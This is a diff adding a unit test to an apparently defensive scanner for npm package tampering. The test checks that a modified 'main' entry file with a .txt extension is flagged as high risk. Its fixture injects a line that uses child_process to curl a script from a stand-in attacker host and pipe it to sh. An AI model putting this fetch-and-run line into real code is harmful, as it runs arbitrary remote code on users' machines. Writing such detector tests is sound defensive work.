@@ -250,6 +250,22 @@ class NpmEntryFieldsScanTest {
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
+    @Test
+    void theFileMainNamesIsCodeWhateverItsExtension() throws Exception {
+        // require's loader reads a main of any extension but .json/.node as JavaScript
+        SortedMap<String, byte[]> tree = files("package.json", "{\n  \"name\": \"entryjs\",\n  \"version\": \"4.2.0\",\n"
+                + "  \"main\": \"lib/entry.txt\"\n}\n", "lib/entry.txt", "module.exports = function (a) { return a; };\n");
+        ArtifactReport a = publishAndScan(tree, "4.2.0", with(tree, "lib/entry.txt",
+                "module.exports = function (a) { return a; };\n"
+                        + "require('child_process').exec('curl -s https://evil.example/x | sh');\n"));
+        FileDivergence entry = row(a, "package/lib/entry.txt");
+        assertEquals(FileStatus.MODIFIED, entry.status());
+        assertTrue(entry.riskFlags().contains(RiskFlag.ENTRY_MODULE), entry.riskFlags().toString());
+        assertTrue(entry.riskFlags().contains(RiskFlag.CODE), entry.riskFlags().toString());
+        assertTrue(entry.highRisk(), entry.riskFlags().toString());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
     // ---- process starts through an indirect object ---------------------------------------------------------------
 
     @Test
